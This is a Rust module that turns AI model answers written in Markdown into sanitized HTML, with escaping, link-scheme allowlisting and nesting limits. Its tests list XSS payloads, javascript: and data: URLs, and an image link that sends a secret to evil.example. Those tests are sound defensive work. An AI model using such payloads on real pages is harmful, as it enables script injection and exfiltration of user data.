//! Answers as markup.
//!
//! What a model writes is not trusted. It becomes a tree of known elements with text in them: markup in the text stays
//! text, images become their description, and links keep only addresses of schemes that cannot run anything.

use std::fmt::Write as _;

use pulldown_cmark::{Alignment, CodeBlockKind, Event, HeadingLevel, Options, Parser, Tag, TagEnd};

/// Quotes, lists and emphasis within more of these than this are shown as if they were not. A mark of two bytes would
/// otherwise become an element of two dozen, and a page of elements too deep for browsers.
const MAX_NESTED: usize = 32;

const OPTIONS: Options = Options::ENABLE_TABLES.union(Options::ENABLE_STRIKETHROUGH);

/// The words of an answer without its marks, on one line; as it is, if there are none.
pub(crate) fn plain(text: &str) -> String {
    let mut words = String::with_capacity(text.len());
    for event in Parser::new_ext(text, OPTIONS) {
        match event {
            Event::Text(text)
            | Event::Code(text)
            | Event::Html(text)
            | Event::InlineHtml(text)
            | Event::InlineMath(text)
            | Event::DisplayMath(text)
            | Event::FootnoteReference(text) => words.push_str(&text),
            Event::End(
                TagEnd::Emphasis | TagEnd::Strong | TagEnd::Strikethrough | TagEnd::Link | TagEnd::Image,
            )
            | Event::Start(_)
            | Event::TaskListMarker(_) => {}
            Event::End(_) | Event::SoftBreak | Event::HardBreak | Event::Rule => words.push(' '),
        }
    }
    let words = words.split_whitespace().collect::<Vec<_>>().join(" ");
    if words.is_empty() { text.to_owned() } else { words }
}

/// Renders an answer.
pub(crate) fn render(text: &str) -> String {
    let mut writer = Writer {
        html: String::with_capacity(text.len() * 2),
        in_head: false,
        in_link: false,
        cell: 0,
        empty_cells: 0,
        nested: 0,
        shown: Vec::new(),
    };
    for event in Parser::new_ext(text, OPTIONS) {
        writer.write(event);
    }
    writer.html
}

struct Writer {
    html: String,
    in_head: bool,
    in_link: bool,
    /// Where the cell being written begins.
    cell: usize,
    /// How many cells before it are empty and not written yet.
    empty_cells: usize,
    /// How many quotes, lists and emphases are being written within each other.
    nested: usize,
    /// For each tag being written, whether it is an element.
    shown: Vec<bool>,
}

impl Writer {
    fn write(&mut self, event: Event<'_>) {
        match event {
            Event::Start(tag) => self.start(&tag),
            Event::End(tag) => self.end(tag),
            Event::Text(text)
            | Event::Html(text)
            | Event::InlineHtml(text)
            | Event::InlineMath(text)
            | Event::DisplayMath(text) => self.text(&text),
            Event::Code(text) => {
                self.html.push_str("<code>");
                self.text(&text);
                self.html.push_str("</code>");
            }
            Event::SoftBreak => self.html.push('\n'),
            Event::HardBreak => self.html.push_str("<br>"),
            Event::Rule => self.html.push_str("<hr>"),
            Event::FootnoteReference(name) => self.text(&name),
            Event::TaskListMarker(done) => self.html.push_str(if done { "☑ " } else { "☐ " }),
        }
    }

    fn start(&mut self, tag: &Tag<'_>) {
        self.nested += usize::from(nests(tag.to_end()));
        let is_shown = match tag {
            // The parser finds an address in angle brackets also within a link.
            Tag::Link { dest_url, .. } => !self.in_link && is_safe_address(dest_url),
            tag => !nests(tag.to_end()) || self.nested <= MAX_NESTED,
        };
        self.shown.push(is_shown);
        if !is_shown {
            return;
        }
        match tag {
            Tag::Paragraph => self.html.push_str("<p dir=\"auto\">"),
            Tag::Heading { level, .. } => {
                let _ = write!(self.html, "<{} dir=\"auto\">", heading(*level));
            }
            Tag::BlockQuote(_) => self.html.push_str("<blockquote>"),
            Tag::CodeBlock(kind) => {
                // The language is the model's word; it is not needed.
                let (CodeBlockKind::Fenced(_) | CodeBlockKind::Indented) = kind;
                self.html.push_str("<pre tabindex=\"0\" aria-label=\"Code\" dir=\"ltr\"><code>");
            }
            Tag::List(None) => self.html.push_str("<ul>"),
            Tag::List(Some(first)) => {
                let _ = write!(self.html, "<ol start=\"{first}\">");
            }
            Tag::Item => self.html.push_str("<li dir=\"auto\">"),
            Tag::Table(alignments) => {
                let (Alignment::None | Alignment::Left | Alignment::Center | Alignment::Right) =
                    alignments.first().copied().unwrap_or(Alignment::None);
                self.html.push_str(
                    "<div class=\"scroll-x\" tabindex=\"0\" role=\"region\" aria-label=\"Table\"><table>",
                );
            }
            Tag::TableHead => {
                self.in_head = true;
                self.html.push_str("<thead><tr>");
            }
            Tag::TableRow => self.html.push_str("<tr>"),
            Tag::TableCell if self.in_head => self.html.push_str("<th scope=\"col\">"),
            Tag::TableCell => self.cell = self.html.len(),
            Tag::Emphasis => self.html.push_str("<em>"),
            Tag::Strong => self.html.push_str("<strong>"),
            Tag::Strikethrough => self.html.push_str("<s>"),
            Tag::Link { dest_url, .. } => self.start_link(dest_url),
            _ => {}
        }
    }

    fn end(&mut self, tag: TagEnd) {
        self.nested -= usize::from(nests(tag));
        if self.shown.pop() != Some(true) {
            return;
        }
        let end = match tag {
            TagEnd::Paragraph => "</p>",
            TagEnd::Heading(level) => {
                let _ = write!(self.html, "</{}>", heading(level));
                return;
            }
            TagEnd::BlockQuote(_) => "</blockquote>",
            TagEnd::CodeBlock => "</code></pre>",
            TagEnd::List(false) => "</ul>",
            TagEnd::List(true) => "</ol>",
            TagEnd::Item => "</li>",
            TagEnd::Table => "</tbody></table></div>",
            TagEnd::TableHead => {
                self.in_head = false;
                "</tr></thead><tbody>"
            }
            TagEnd::TableRow => {
                self.empty_cells = 0;
                "</tr>"
            }
            TagEnd::TableCell if self.in_head => "</th>",
            TagEnd::TableCell => {
                self.end_cell();
                ""
            }
            TagEnd::Emphasis => "</em>",
            TagEnd::Strong => "</strong>",
            TagEnd::Strikethrough => "</s>",
            TagEnd::Link => {
                self.in_link = false;
                "</a>"
            }
            _ => "",
        };
        self.html.push_str(end);
    }

    /// Cells that end a row without a word in them are left out: the parser fills rows up to the width of the head, and a
    /// page of answers would become a hundred times as large.
    fn end_cell(&mut self) {
        if self.html.len() == self.cell {
            self.empty_cells += 1;
            return;
        }
        let before = "<td></td>".repeat(std::mem::take(&mut self.empty_cells));
        self.html.insert_str(self.cell, &format!("{before}<td>"));
        self.html.push_str("</td>");
    }

    fn start_link(&mut self, address: &str) {
        self.in_link = true;
        self.html.push_str("<a target=\"_blank\" rel=\"noopener noreferrer nofollow ugc\" href=\"");
        self.text(address);
        self.html.push_str("\">");
    }

    fn text(&mut self, text: &str) {
        for character in text.chars() {
            match character {
                '<' => self.html.push_str("&lt;"),
                '>' => self.html.push_str("&gt;"),
                '&' => self.html.push_str("&amp;"),
                '"' => self.html.push_str("&quot;"),
                '\'' => self.html.push_str("&#39;"),
                _ => self.html.push(character),
            }
        }
    }
}

/// Whether it may stand within itself without end.
fn nests(tag: TagEnd) -> bool {
    matches!(
        tag,
        TagEnd::BlockQuote(_)
            | TagEnd::List(_)
            | TagEnd::Item
            | TagEnd::Emphasis
            | TagEnd::Strong
            | TagEnd::Strikethrough
    )
}

/// Headings of an answer stand below the page's own.
fn heading(level: HeadingLevel) -> &'static str {
    match level {
        HeadingLevel::H1 => "h3",
        HeadingLevel::H2 => "h4",
        HeadingLevel::H3 => "h5",
        HeadingLevel::H4 | HeadingLevel::H5 | HeadingLevel::H6 => "h6",
    }
}

/// Whole addresses that lead to a page, a mailbox or a telephone. Browsers drop white space and controls in schemes, so
/// addresses that have any are refused.
fn is_safe_address(address: &str) -> bool {
    let Some((scheme, rest)) = address.split_once(':') else { return false };
    let is = |known: &str| scheme.eq_ignore_ascii_case(known);
    let is_whole = if is("https") || is("http") { rest.starts_with("//") } else { is("mailto") || is("tel") };
    is_whole && !address.chars().any(|c| c.is_control() || c.is_whitespace())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_preview_has_the_words_and_no_marks() {
        for (text, words) in [
            ("Three *things*: \n\n1. **Restart** it\n2. `ping`\n", "Three things: Restart it ping"),
            ("# Prices\n\n| Plan | Price |\n| --- | ---: |\n| Basic | 5 |", "Prices Plan Price Basic 5"),
            ("See [the guide](https://a.example/) <b>now</b>", "See the guide <b>now</b>"),
            ("Cut off **in the", "Cut off **in the"),
            ("---", "---"),
            ("", ""),
        ] {
            assert_eq!(plain(text), words);
        }
    }

    #[test]
    fn ordinary_answers_become_known_elements() {
        for (text, html) in [
            (
                "# Hi\n\nOne **two** _3_",
                "<h3 dir=\"auto\">Hi</h3><p dir=\"auto\">One <strong>two</strong> <em>3</em></p>",
            ),
            ("`a<b` ~~c~~", "<p dir=\"auto\"><code>a&lt;b</code> <s>c</s></p>"),
            ("2. a\n3. b", "<ol start=\"2\"><li dir=\"auto\">a</li><li dir=\"auto\">b</li></ol>"),
            ("```js\nx\n```", "<pre tabindex=\"0\" aria-label=\"Code\" dir=\"ltr\"><code>x\n</code></pre>"),
            (
                "| a |\n|---|\n| 1 |",
                "<div class=\"scroll-x\" tabindex=\"0\" role=\"region\" aria-label=\"Table\"><table><thead><tr>\
                 <th scope=\"col\">a</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table></div>",
            ),
            (
                "| a | b | c |\n|---|---|---|\n| | 2 | |\n| 1 |",
                "<div class=\"scroll-x\" tabindex=\"0\" role=\"region\" aria-label=\"Table\"><table><thead><tr>\
                 <th scope=\"col\">a</th><th scope=\"col\">b</th><th scope=\"col\">c</th></tr></thead><tbody>\
                 <tr><td></td><td>2</td></tr><tr><td>1</td></tr></tbody></table></div>",
            ),
        ] {
            assert_eq!(render(text), html, "{text}");
        }
    }

    #[test]
    fn links_keep_addresses_that_cannot_run_anything() {
        for address in [
            "https://a.example/x?y=1",
            "http://a.example",
            "mailto:a@b.example",
            "tel:+351",
            "HTTPS://a.example",
        ] {
            assert!(render(&format!("[x]({address})")).contains("<a "), "{address}");
        }
        for address in [
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "java&#10;script:alert(1)",
            "&#1;javascript:alert(1)",
            "data:text/html,<script>",
            "vbscript:x",
            "file:///etc/passwd",
            "//evil.example",
            "/relative",
            "https:evil",
            "aé€:x",
            "x",
        ] {
            let html = render(&format!("[x](<{address}>)"));
            assert!(!html.contains("<a"), "{address}: {html}");
        }
    }

    #[test]
    fn a_link_has_no_link_in_it() {
        let html = render("[a <https://b.example> c](https://d.example) <https://e.example>");
        assert_eq!((html.matches("<a ").count(), html.matches("</a>").count()), (2, 2), "{html}");
        assert!(html.contains("\"https://d.example\">a https://b.example c</a>"), "{html}");
    }

    #[test]
    fn no_payload_leaves_the_known_elements() {
        let known = [
            "a",
            "blockquote",
            "br",
            "code",
            "div",
            "em",
            "h3",
            "h4",
            "h5",
            "h6",
            "hr",
            "li",
            "ol",
            "p",
            "pre",
            "s",
            "strong",
            "table",
            "tbody",
            "td",
            "th",
            "thead",
            "tr",
            "ul",
        ];
        for payload in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "![x](https://evil.example/p?d=SECRET)",
            "![x][r]\n\n[r]: https://evil.example/p",
            "<a href=\"javascript:alert(1)\">x</a>",
            "[x](javascript:alert(1) \"onmouseover=alert(1)\")",
            "<svg/onload=alert(1)>",
            "<iframe srcdoc=\"<script>\">",
            "[\"><script>alert(1)</script>](https://a.example)",
            "[x](https://a.example/\"onmouseover=\"alert(1))",
            "<https://a.example/\"onmouseover=alert(1)>",
            "```\"><script>\nx\n```",
            "<!--<img src=x onerror=alert(1)>-->",
            "| <script> |\n|---|\n| <img onerror=x> |",
            "<style>*{display:none}</style>",
        ] {
            let html = render(payload);
            for tag in html.split('<').skip(1) {
                let name: String =
                    tag.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
                assert!(known.contains(&name.as_str()), "{payload}: {html}");
                let attributes = tag.split('>').next().unwrap();
                for forbidden in [" on", " src", " style", " srcdoc"] {
                    let outside_values: String = attributes.split('"').step_by(2).collect();
                    assert!(!outside_values.contains(forbidden), "{payload}: {html}");
                }
            }
        }
    }

    #[test]
    fn quotes_lists_and_emphasis_do_not_nest_for_ever() {
        for (text, element, nested) in [
            (format!("{}deep", "> ".repeat(1000)), "blockquote", 32),
            (format!("{}deep", "1. ".repeat(1000)), "ol", 16),
            (format!("{}deep{}", "*a **b ".repeat(500), " b** a*".repeat(500)), "strong", 16),
        ] {
            let html = render(&text);
            let count = |begin: &str| html.matches(&format!("{begin}{element}")).count();
            assert_eq!((count("<"), count("</")), (nested, nested), "{html}");
            assert!(html.contains("deep"));
        }
    }

    #[test]
    fn a_wide_table_does_not_make_its_short_rows_wide() {
        let (head, line) = ("a|".repeat(500), "-|".repeat(500));
        let html = render(&format!("|{head}\n|{line}\n{}", "a\n".repeat(1000)));
        assert!(html.len() < 50_000, "{} bytes", html.len());
    }
}
